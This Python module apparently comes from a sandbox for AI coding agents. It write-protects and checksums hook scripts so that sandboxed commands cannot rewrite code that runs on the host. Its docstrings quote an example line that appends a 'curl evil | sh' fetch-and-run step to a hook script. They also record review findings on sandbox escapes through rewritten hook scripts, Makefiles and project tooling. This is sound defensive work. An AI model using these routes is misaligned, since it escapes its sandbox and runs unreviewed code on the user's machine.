"""The files a hook command runs, so that no sandboxed command may rewrite
them: a hook runs on the host, unsandboxed, at the next tool call, so a
hook script inside the workspace is a file the host runs that the agent
could otherwise edit (`echo 'curl evil | sh' >> scripts/pre_bash.sh`).

Two layers. Before the session, every path a hook may run from that lies
where sandboxed commands write joins the sandbox's write-denied paths (a
missing one too: a run that creates it is stopped), and so does the directory of such
a script (the modules it imports sit beside it). Before each run, each of
those paths is checked against what it was when the session started —
where it leads and which file it is — and a hook whose file changed is not
run (a pre-tool hook that is not run denies the call): a link on the way
(`tools -> real`) is not a file the sandbox can keep, re-pointed it runs
another program.
"""

from __future__ import annotations

import os
import shlex
from collections.abc import Iterable, Mapping, Sequence

from regexes import regex
from values import valueclass

from .config import HookCommand

_PROJECT_VARS = regex(r"\$\{?(CLAUDE_PROJECT_DIR|SHELLGATE_PROJECT_DIR)\}?")
_HOME_VAR = regex(r"\$\{?HOME\}?(?![A-Za-z0-9_])")
#: programs whose first operand is a script they run
_INTERPRETERS = regex(
    r"(?:ba|da|z|k|fi|c|tc)?sh|python[0-9.]*|pypy[0-9.]*|node(?:js)?|deno|bun|ruby|perl"
    r"|php|lua|Rscript|tsx|ts-node|source|\.")
#: what runs a script given after it (`deno run x.ts`, `bun x.ts`)
_RUNNER_VERBS = frozenset({"run", "exec"})
#: a missing operand that names a script (it could be made later)
_SCRIPT_NAME = regex(r".*\.(?:sh|bash|zsh|py|js|mjs|cjs|ts|mts|rb|pl|php|lua|R)")
#: a word split at what ends a file name in a shell (`<in.sh`, `--file=x.sh`)
_SEPARATORS = regex(r"[<>|;&()=`]+")
#: the shell's operators between simple commands, as shlex leaves them
_OPERATOR = regex(r"[;&|]+|[()]")
#: programs that run what a project's files say — files sandboxed commands
#: may write, and no path in the hook's command names them
_PROJECT_TOOLS = {
    "make": "the Makefile", "gmake": "the Makefile", "just": "the justfile",
    "npm": "package.json's scripts and node_modules", "npx": "node_modules",
    "yarn": "package.json's scripts and node_modules", "pnpm": "package.json's scripts",
    "bun": "package.json's scripts", "eslint": "its configuration (code) and plugins",
    "prettier": "its configuration and plugins", "cargo": "build.rs and the build's code",
    "go": "the module's code", "pytest": "conftest.py", "tox": "tox.ini's commands",
    "nox": "noxfile.py", "poetry": "the project's scripts and environment",
    "uv": "the project's scripts and environment", "hatch": "the project's scripts",
    "rake": "the Rakefile", "bundle": "the Gemfile", "gradle": "the build scripts",
    "gradlew": "the wrapper and build scripts", "mvn": "pom.xml's plugins",
    "composer": "composer.json's scripts", "pre-commit": "the hooks it installs",
}
#: how many directories a `cd` may have moved to before the script runs
_MAX_BASES = 8


@valueclass
class Watch:
    """A path a hook runs from, as it was when the session started."""

    named: str
    real: str
    identity: tuple[int, ...] | None

    @classmethod
    def of(cls, named: str) -> Watch:
        real = os.path.realpath(named)
        return cls(named, real, _identity(real))

    def changed(self) -> str | None:
        """What changed since (None: nothing)."""
        real = os.path.realpath(self.named)
        if real != self.real:
            return f"{self.named} now leads to {real}, not {self.real}"
        now = _identity(real)
        if now == self.identity:
            return None
        if self.identity is None:
            return f"{self.named} was made after the session started"
        return f"{self.named} was changed or removed after the session started"


@valueclass
class Guard:
    """What the sandbox must keep, and what each hook is checked against."""

    #: paths no sandboxed command may write (files, missing ones, directories)
    deny_write: tuple[str, ...] = ()
    #: for each hook command, the paths checked before it runs
    watches: Mapping[str, tuple[Watch, ...]] | None = None
    notes: tuple[str, ...] = ()


def guard_hooks(hooks: Iterable[HookCommand], project_dir: str, home: str,
                roots: Sequence[str], path_env: str = "") -> Guard:
    """The :class:`Guard` of ``hooks`` run in ``project_dir`` when ``roots``
    are where sandboxed commands may write."""
    real_roots = [os.path.realpath(r) for r in roots]
    deny: list[str] = []
    watches: dict[str, tuple[Watch, ...]] = {}
    notes: list[str] = []
    for hook in hooks:
        if hook.command in watches:
            continue
        programs, data = named_paths(hook.command, project_dir, home, path_env)
        kept = [p for p in dict.fromkeys((*programs, *data))
                if _within(p, real_roots) or _within(os.path.realpath(p), real_roots)]
        watches[hook.command] = tuple(Watch.of(p) for p in kept)
        deny += (os.path.realpath(p) for p in kept)
        for path in programs:
            real = os.path.realpath(path)
            folder = os.path.dirname(real)
            if path not in kept or not os.path.isfile(real):
                continue
            if folder in real_roots:
                notes.append(f"the hook script {real} lies at the top of {folder}: it is kept "
                             "from sandboxed commands, the files beside it (which it may import "
                             "or read) are not; a hook script is safest in .claude/hooks")
            elif _within(folder, real_roots):
                deny.append(folder)
        if _within(os.path.realpath(project_dir), real_roots):
            notes += _project_tool_notes(hook.command, project_dir, home)
    return Guard(tuple(dict.fromkeys(deny)), watches, tuple(dict.fromkeys(notes)))


def hook_files(hooks: Iterable[HookCommand], project_dir: str, home: str) -> list[str]:
    """Every existing file a hook's command names, links followed to where
    they lead (the file that runs) and the link itself."""
    found: list[str] = []
    for hook in hooks:
        programs, data = named_paths(hook.command, project_dir, home)
        for path in (*programs, *data):
            if os.path.isfile(path):
                found += [os.path.realpath(path), path]
    return list(dict.fromkeys(found))


def named_paths(command: str, project_dir: str, home: str, path_env: str = ""
                ) -> tuple[list[str], list[str]]:
    """The absolute paths (as named, links not followed) ``command`` may
    run a program from, run in ``project_dir`` — its programs and the
    scripts its interpreters take, found or not (one may be made later) —
    and the existing files its other words name. A missing one is taken
    from the directory the command is in by then (after its ``cd``), an
    existing one from any directory it visits.

    From a review: words resolved from the project alone missed
    `cd tools && ./g.sh`, `sh -c '. tools/g.sh'`, `sh <tools/g.sh`,
    `python3 -m hooks.guard`, `$HOME/bin/g.sh` and a script made after
    the session started; each was rewritten by a sandboxed command and
    run on the host at the next call."""
    text = _HOME_VAR.sub(lambda _: home, _PROJECT_VARS.sub(lambda _: project_dir, command))
    commands, bases, read = _parsed(text, project_dir, home)
    programs: list[str] = []
    data: list[str] = []

    def resolved(word: str, here: str | None) -> list[str]:
        """``word`` wherever it exists, and where it would be made (``here``)."""
        if not word or word.startswith("-") or "\0" in word or not _encodable(word):
            return []
        word = home + word[1:] if word == "~" or word.startswith("~/") else word
        found = [os.path.normpath(os.path.join(b, word)) for b in bases]
        made = [os.path.normpath(os.path.join(here, word))] if here is not None else []
        return [*made, *(p for p in found if os.path.lexists(p))]

    for argv, here in commands:
        if not argv:
            continue
        for word in _scripts(argv):
            made_later = "/" in word or _SCRIPT_NAME.fullmatch(word) is not None
            programs += resolved(word, here if made_later else None)
        if "/" in argv[0]:
            programs += resolved(argv[0], here)
        else:
            programs += _on_path(argv[0], project_dir, path_env)
        for word in argv[1:]:
            for part in (word, *_SEPARATORS.split(word)):
                data += (p for p in resolved(part, None) if os.path.isfile(p))
    data += (p for p in read if os.path.isfile(p))
    return list(dict.fromkeys(programs)), list(dict.fromkeys(data))


def _parsed(text: str, project_dir: str, home: str
            ) -> tuple[list[tuple[tuple[str, ...], str | None]], list[str], list[str]]:
    """The command's simple commands, each with the directory it runs in
    when that is known — the analyzer's (which opens `sh -c`, strips
    wrappers and follows `cd`), and the plain shell words cut at the
    operators, for what it may have missed — every directory the command
    visits, and the files it reads by redirection (``sh <g.sh``)."""
    try:
        words = shlex.split(text, comments=True)
    except ValueError:
        words = text.split()
    plain: list[tuple[str, ...]] = [()]
    for word in words:
        if _OPERATOR.fullmatch(word):
            plain.append(())
        else:
            plain[-1] = (*plain[-1], word)
    bases = [project_dir]
    read: list[str] = []
    try:
        from analyzers import Access, analyze_bash  # noqa: PLC0415

        analysis = analyze_bash(text, project_dir, home=home)
    except Exception:  # the shell words alone, each in the project
        return [(argv, project_dir) for argv in plain], bases, read
    commands: list[tuple[tuple[str, ...], str | None]] = [(argv, None) for argv in plain]
    here = project_dir
    for sub in analysis.subcommands:
        commands.append((tuple(sub.argv), here))
        if sub.cd is not None:
            target = home + sub.cd[1:] if sub.cd.startswith("~/") else sub.cd
            here = os.path.normpath(os.path.join(here, target))
            bases = list(dict.fromkeys((*bases, here, os.path.normpath(
                os.path.join(project_dir, target)))))[:_MAX_BASES]
        read += [p.path for p in sub.paths if p.access is not Access.WRITE and not p.redirect
                 and p.path.startswith("/")]
    return commands, bases, read


def _project_tool_notes(command: str, project_dir: str, home: str) -> list[str]:
    """What the user must hear of a hook that runs project tooling: from a
    review, a PostToolUse hook `make -s lint` ran the recipe a sandboxed
    `printf … > Makefile` had written, on the host — no path kept could
    stop it, short of making the project read-only."""
    text = _HOME_VAR.sub(lambda _: home, _PROJECT_VARS.sub(lambda _: project_dir, command))
    commands, _, _ = _parsed(text, project_dir, home)
    tools = dict.fromkeys(os.path.basename(argv[0]) for argv, _ in commands if argv)
    return [f"the hook {command[:80]!r} runs {tool}, which runs {_PROJECT_TOOLS[tool]} of the "
            "workspace — files sandboxed commands may write: on this machine, outside the "
            "sandbox, it runs what the agent wrote there"
            for tool in tools if tool in _PROJECT_TOOLS]


def _scripts(argv: Sequence[str]) -> list[str]:
    """The script an interpreter runs (``python3 -m pkg.mod``: the module's
    file, its ``__main__``, its package and the package's directory)."""
    if not _INTERPRETERS.fullmatch(os.path.basename(argv[0])):
        return []
    rest = list(argv[1:])
    for i, word in enumerate(rest):
        if word == "-m" and i + 1 < len(rest):
            module = rest[i + 1].replace(".", "/")
            top = module.split("/")[0]
            return [f"{module}.py", f"{module}/__main__.py", f"{top}/__init__.py", top]
        if word in ("-c", "-e", "--eval"):
            return []
        if not word.startswith("-") and word not in _RUNNER_VERBS:
            return [word]
    return []


def _on_path(program: str, project_dir: str, path_env: str) -> list[str]:
    """Where ``program`` would be looked for on ``PATH`` (a relative entry
    is taken from the project, where hooks run): in every existing entry up
    to the first that holds it — a program made in an earlier one would
    run instead."""
    out: list[str] = []
    for entry in path_env.split(os.pathsep) if path_env else []:
        folder = os.path.normpath(os.path.join(project_dir, entry or "."))
        if not os.path.isdir(folder):
            continue
        candidate = os.path.join(folder, program)
        out.append(candidate)
        if os.path.isfile(candidate) and os.access(candidate, os.X_OK):
            break
    return out


def _encodable(text: str) -> bool:
    try:
        os.fsencode(text)
    except UnicodeError:
        return False
    return True


def _within(path: str, roots: Sequence[str]) -> bool:
    return any(path == r or path.startswith(r.rstrip("/") + "/") for r in roots)


def _identity(path: str) -> tuple[int, ...] | None:
    try:
        st = os.stat(path)
    except (OSError, ValueError):
        return None
    return (st.st_dev, st.st_ino, st.st_mode, st.st_size, st.st_mtime_ns, st.st_ctime_ns)
